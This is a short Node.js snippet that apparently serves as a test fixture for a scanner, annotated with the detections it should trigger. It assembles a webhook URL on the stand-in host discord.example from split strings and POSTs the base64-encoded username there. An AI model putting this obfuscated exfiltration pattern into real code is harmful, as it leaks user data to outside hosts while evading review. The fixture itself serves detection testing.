const os = require('os');
const url = 'https://' + ['discord', 'example'].join('.') + '/api/' + 'webhooks/' + [1, 'x'].join('/');
require('https').request(url, { method: 'POST' }).end(Buffer.from(os.userInfo().username).toString('base64')); // expect: data-exfiltration/messenger-webhook, url-analyzer/hidden-host
